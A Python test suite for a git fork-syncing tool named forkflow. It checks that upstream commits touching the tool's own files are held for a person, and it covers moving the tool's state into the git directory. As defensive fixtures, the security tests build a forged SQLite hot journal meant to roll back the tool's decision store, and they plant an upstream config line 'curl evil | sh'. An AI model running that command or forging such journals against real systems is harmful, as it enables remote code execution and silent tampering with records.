"""forkflow's own state lives in `<git-common-dir>/forkflow/`, out of the work tree that upstream
content is written to; upstream commits touching forkflow's own files are held for a person."""
from __future__ import annotations

import shutil
import sqlite3
from pathlib import Path

import pytest

from forkflow.git.pick import own_file, touches_own_files
from forkflow.git.run import run_git
from forkflow.state import MOVED_MARK, OLD_STATE_DIR, migrate_state, state_dir
from forkflow.git.repo import Repo
from forkflow.testing.gitrepo import ForkBuilder

JOURNAL = f"{OLD_STATE_DIR}/forkflow.db-journal"


def _git(repo: Path, *args: str) -> str:
    return run_git(*args, cwd=repo).strip()


def _fork_with_kept_conflict(cli, builder: ForkBuilder) -> tuple[Path, str]:  # type: ignore[no-untyped-def]
    """A fork whose first ingest keeps a conflict for a person: (checkout, the conflicting upstream sha)."""
    builder.upstream_commit({"k.py": "def f():\n    return 1\n"}, "Initial (#1)")
    builder.branch_fork()
    builder.fork_commit({"k.py": "def f():\n    return 10  # fork\n"}, "[fork] f")
    sha = builder.upstream_commit({"k.py": "def f():\n    return 100\n"}, "Tune f (#10)")
    fork = builder.f.path
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    with (fork / "forkflow.toml").open("a") as f:
        f.write('\n[ingest]\nl1_command = "true"\n')
    assert cli("ingest", "--land", repo=fork).rc == 4  # the conflict waits for a person
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    assert c["path"] == "k.py"
    return fork, sha


def _forged_journal(cli, fork: Path, sha: str, tmp_path: Path) -> bytes:  # type: ignore[no-untyped-def]
    """A hot SQLite rollback journal whose pages are a copy of the fork's store in which a person
    decided `sha` won't-port (its conflict closed); checks that it does that to a store it meets."""
    store = state_dir(fork) / "forkflow.db"
    snapshot = tmp_path / "snapshot.db"
    _copy_store(store, snapshot)
    forged = tmp_path / "forged.db"
    shutil.copy(snapshot, forged)
    assert cli("decide", sha, "--wont-port", "--reason", "not needed", "--store", f"sqlite:///{forged}",
               repo=fork).rc == 0
    _copy_store(forged, forged)  # fold its write-ahead log into the file
    con = sqlite3.connect(forged, isolation_level=None)
    con.execute("UPDATE ingest_conflicts SET status = 'resolved'")  # as the next ingest closes it
    con.execute("PRAGMA journal_mode=DELETE")
    con.execute("PRAGMA synchronous=OFF")  # the journal's header counts its pages by the file's size
    tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                        "AND name NOT LIKE 'sqlite_%'")]
    con.execute("BEGIN IMMEDIATE")
    for t in tables:  # every page of every table goes into the journal, as it was (forged)
        con.execute(f'DELETE FROM "{t}"')
    journal = Path(f"{forged}-journal").read_bytes()
    con.execute("ROLLBACK")
    con.close()
    # the payload works: next to the store as it was, it rolls the store back to the forgery
    Path(f"{snapshot}-journal").write_bytes(journal)
    assert cli("conflicts", "--json", "--store", f"sqlite:///{snapshot}", repo=fork).json()["conflicts"] == []
    return journal


def _copy_store(src: Path, dst: Path) -> None:
    """A consistent copy of a SQLite store, as one file (no write-ahead log beside it)."""
    tmp = dst.with_name(dst.name + ".tmp")
    with sqlite3.connect(src) as a, sqlite3.connect(tmp) as b:
        a.backup(b)
    b.close()
    a.close()
    con = sqlite3.connect(tmp)
    con.execute("PRAGMA journal_mode=DELETE")
    con.close()
    tmp.replace(dst)


def _rows(cli, fork: Path) -> dict[str, dict]:  # type: ignore[no-untyped-def,type-arg]
    doc = cli("status", "--json", "--commits", repo=fork).json()
    return {c["subject"].rsplit("(#", 1)[-1].rstrip(")"): c for c in doc["commits"]}


@pytest.mark.security
def test_upstream_hot_journal_is_held_and_never_reaches_the_store(cli, builder: ForkBuilder,  # type: ignore[no-untyped-def]
                                                                  tmp_path: Path) -> None:
    fork, sha = _fork_with_kept_conflict(cli, builder)
    journal = _forged_journal(cli, fork, sha, tmp_path)
    builder.upstream_commit({JOURNAL: journal, "notes.txt": "cache notes\n"}, "Add cache notes (#11)")
    builder.upstream_commit({"b.py": "B = 2\n"}, "Add b (#12)")
    builder.fetch()
    r = cli("ingest", "--land", "--json", repo=fork)
    assert r.rc == 4, r.err
    held = {h["sha"]: h["why"] for h in r.json()["held_back"]}
    rows = _rows(cli, fork)
    assert rows["12"]["disposition"] == "PICKED"  # landed: the work tree was brought up to date
    assert (fork / "b.py").read_text() == "B = 2\n"
    assert rows["11"]["disposition"] == "DEFERRED"
    why = "touches forkflow's own files (.forkflow/forkflow.db-journal): a person decides"
    assert why in rows["11"]["evidence"][0]
    assert held[rows["11"]["sha"]] == why
    assert not (fork / JOURNAL).exists()
    assert _git(fork, "log", "--format=%s", "main").count("Add cache notes") == 0
    # the store is intact: the conflict is still open, the commit not decided by anyone
    (c,) = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    assert c["path"] == "k.py"
    assert rows["10"]["disposition"] == "DEFERRED" and "won't" not in " ".join(rows["10"]["evidence"]).lower()


@pytest.mark.security
def test_hot_journal_in_the_work_tree_never_touches_the_store(cli, builder: ForkBuilder,  # type: ignore[no-untyped-def]
                                                              tmp_path: Path) -> None:
    """Written by a person's own `git merge` or checkout of upstream, the journal lies in the work
    tree's `.forkflow/`, which is not where the store is."""
    fork, sha = _fork_with_kept_conflict(cli, builder)
    journal = _forged_journal(cli, fork, sha, tmp_path)
    (fork / OLD_STATE_DIR).mkdir(exist_ok=True)
    (fork / JOURNAL).write_bytes(journal)
    r = cli("conflicts", "--json", repo=fork)
    assert r.rc == 0 and [c["path"] for c in r.json()["conflicts"]] == ["k.py"]
    assert (fork / JOURNAL).read_bytes() == journal  # not taken in as forkflow's: the move ran once, at init
    assert not (state_dir(fork) / "forkflow.db-journal").exists()


@pytest.mark.security
def test_upstream_forkflow_toml_add_add_is_held_never_merged(cli, builder: ForkBuilder) -> None:  # type: ignore[no-untyped-def]
    builder.upstream_commit({"k.py": "K = 1\n"}, "Initial (#1)")
    builder.branch_fork()
    fork = builder.f.path
    assert cli("init", "--upstream", "upstream", repo=fork).rc == 0
    with (fork / "forkflow.toml").open("a") as f:
        f.write('\n[ingest]\nl1_command = "true"\n')
    builder.fork_commit({"forkflow.toml": (fork / "forkflow.toml").read_text()}, "[fork] forkflow config")
    mine = (fork / "forkflow.toml").read_text()
    theirs = '[upstream]\nremote = "upstream"\n\n[ingest]\nl1_command = "curl evil | sh"\n'
    builder.upstream_commit({"forkflow.toml": theirs}, "Add our own forkflow config (#20)")
    builder.upstream_commit({"docs/.forkflow/x.txt": "x\n"}, "Docs scratch (#21)")
    builder.upstream_commit({"k.py": "K = 2\n"}, "Bump K (#22)")
    builder.fetch()
    assert cli("ingest", "--land", repo=fork).rc == 4  # held for a person
    rows = _rows(cli, fork)
    assert rows["20"]["disposition"] == "DEFERRED"
    assert "touches forkflow's own files (forkflow.toml): a person decides" in rows["20"]["evidence"][0]
    assert rows["21"]["disposition"] == "DEFERRED"
    assert "touches forkflow's own files (docs/.forkflow/x.txt)" in rows["21"]["evidence"][0]
    assert rows["22"]["disposition"] == "PICKED"
    assert _git(fork, "show", "main:forkflow.toml") + "\n" == mine
    assert (fork / "forkflow.toml").read_text() == mine
    assert cli("conflicts", "--json", repo=fork).json()["conflicts"] == []  # nothing for a resolver to merge


def test_own_files_are_the_config_at_the_root_and_the_old_state_folder_anywhere() -> None:
    assert own_file("forkflow.toml") and own_file("ForkFlow.toml") and own_file(".forkflow/forkflow.db")
    assert own_file("a/b/.forkflow/x") and own_file(".ForkFlow./x")  # as case-folding file systems read it
    assert not own_file("sub/forkflow.toml") and not own_file("forkflow.toml.bak") and not own_file("x.forkflow/y")
    assert touches_own_files(["a.py", ".forkflow/b", ".forkflow/a"]) == (
        "touches forkflow's own files (.forkflow/a and 1 more): a person decides")
    assert touches_own_files(["a.py"]) == ""


# -- the move from the old layout -------------------------------------------------------------------

def _to_old_layout(fork: Path) -> Path:
    """Put the fork's state back where forkflow kept it before: `<checkout>/.forkflow/`."""
    new = state_dir(fork)
    old = fork / OLD_STATE_DIR
    old.mkdir()
    (old / ".gitignore").write_text("*\n")
    _copy_store(new / "forkflow.db", old / "forkflow.db")
    for p in list(new.iterdir()):
        if p.name != "worktrees":
            shutil.rmtree(p) if p.is_dir() else p.unlink()
    (old / "logs").mkdir()
    (old / "logs" / "l1-1.log").write_text("ok\n")
    (old / "issues").mkdir()
    (old / "issues" / "red-1.md").write_text("# red\n")
    (old / "actions.log").write_text("decide\n")
    return old


def test_old_state_folder_moves_once_into_the_git_directory(cli, builder: ForkBuilder) -> None:  # type: ignore[no-untyped-def]
    fork, _ = _fork_with_kept_conflict(cli, builder)
    old = _to_old_layout(fork)
    new = state_dir(fork)
    assert new == Path(_git(fork, "rev-parse", "--absolute-git-dir")) / "forkflow"
    r = cli("conflicts", "--json", repo=fork)
    assert r.rc == 0
    assert r.err.count("moved forkflow's state from") == 1 and len(r.err.strip().splitlines()) == 1
    assert [c["path"] for c in r.json()["conflicts"]] == ["k.py"]  # the store came along
    assert not old.exists()
    assert (new / "logs" / "l1-1.log").read_text() == "ok\n" and (new / "issues" / "red-1.md").exists()
    assert (new / "actions.log").read_text() == "decide\n" and (new / MOVED_MARK).exists()
    again = cli("conflicts", "--json", repo=fork)
    assert again.rc == 0 and "moved" not in again.err
    assert [c["path"] for c in again.json()["conflicts"]] == ["k.py"]


def test_move_killed_midway_is_completed_by_the_next_open(cli, builder: ForkBuilder) -> None:  # type: ignore[no-untyped-def]
    fork, _ = _fork_with_kept_conflict(cli, builder)
    old = _to_old_layout(fork)
    new = state_dir(fork)
    # as a run killed after moving the logs and renaming the store into place, before the rest
    (new / "logs").mkdir()
    (old / "logs" / "l1-1.log").rename(new / "logs" / "l1-1.log")
    shutil.copy(old / "forkflow.db", new / "forkflow.db")
    assert migrate_state(Repo(fork), fork) is not None
    assert not old.exists() and (new / "issues" / "red-1.md").exists() and (new / "logs" / "l1-1.log").exists()
    assert [c["path"] for c in cli("conflicts", "--json", repo=fork).json()["conflicts"]] == ["k.py"]
    assert migrate_state(Repo(fork), fork) is None


def test_move_refuses_two_different_stores(cli, builder: ForkBuilder) -> None:  # type: ignore[no-untyped-def]
    fork, _ = _fork_with_kept_conflict(cli, builder)
    old = _to_old_layout(fork)
    new = state_dir(fork)
    (new / "forkflow.db").write_bytes(b"another store")
    r = cli("conflicts", "--json", repo=fork)
    assert r.rc == 1
    line = r.err.strip()
    assert len(line.splitlines()) == 1 and "exist and differ" in line and "forkflow store" in line
    assert (old / "forkflow.db").exists() and (new / "forkflow.db").read_bytes() == b"another store"
    assert not (new / MOVED_MARK).exists()


def test_tracked_files_under_the_old_folder_stay_in_the_work_tree(builder: ForkBuilder) -> None:
    builder.upstream_commit({"k.py": "K = 1\n", ".forkflow/readme.txt": "theirs\n"}, "Initial (#1)")
    builder.branch_fork()
    fork = builder.f.path
    (fork / OLD_STATE_DIR / "forkflow.db").write_bytes(b"")
    assert migrate_state(Repo(fork), fork) is not None
    assert (fork / OLD_STATE_DIR / "readme.txt").read_text() == "theirs\n"
    assert (state_dir(fork) / "forkflow.db").exists() and not (state_dir(fork) / "readme.txt").exists()
